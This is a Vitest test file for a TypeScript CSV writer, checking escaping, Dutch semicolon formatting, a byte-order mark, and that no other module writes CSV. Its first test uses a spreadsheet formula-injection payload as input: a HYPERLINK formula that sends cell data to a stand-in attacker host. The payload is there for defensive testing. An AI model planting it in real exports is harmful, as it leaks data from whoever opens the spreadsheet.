import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { writeCsv } from './csv.js';

describe('the CSV writer', () => {
  it('neutralises every cell a spreadsheet would run as a formula, and keeps the text readable', () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+31 6 1234', '-2+3', '@SUM(A1)', '\tx', '\rx'];
    const csv = writeCsv(
      names.map((name) => ({ name })),
      ['name'],
    );
    const cells = (parse(csv, { columns: true }) as { name: string }[]).map((r) => r.name);
    expect(cells).toEqual(names.map((n) => `'${n}`));
  });

  it('leaves ordinary text and numbers, negative ones included, as they are', () => {
    const csv = writeCsv([{ name: 'Ans de Vries', hours: -1.5, note: 'a = b' }], ['name', 'hours', 'note']);
    expect(parse(csv, { columns: true })).toEqual([{ name: 'Ans de Vries', hours: '-1.5', note: 'a = b' }]);
  });

  it('writes semicolons and headings in words for a Dutch spreadsheet', () => {
    const csv = writeCsv([{ at: '2026-12-02 14:05:09', who: 'Ans' }], ['at', 'who'], {
      delimiter: ';',
      headers: { at: 'Tijdstip', who: 'Gebruiker' },
    });
    expect(csv).toBe('Tijdstip;Gebruiker\n2026-12-02 14:05:09;Ans\n');
  });

  it('starts a file meant for spreadsheets with a byte-order mark', () => {
    expect(writeCsv([], ['a'], { forSpreadsheets: true }).startsWith('\uFEFFa')).toBe(true);
  });

  it('is the only place that writes CSV', () => {
    const root = new URL('..', import.meta.url).pathname;
    const files = (dir: string): string[] =>
      readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
        e.isDirectory() ? files(join(dir, e.name)) : e.name.endsWith('.ts') ? [join(dir, e.name)] : [],
      );
    const writers = files(root)
      .filter((f) => !f.endsWith('platform/csv.ts') && !f.endsWith('.test.ts'))
      .filter((f) => readFileSync(f, 'utf8').includes("from 'csv-stringify"));
    expect(writers).toEqual([]);
  });
});
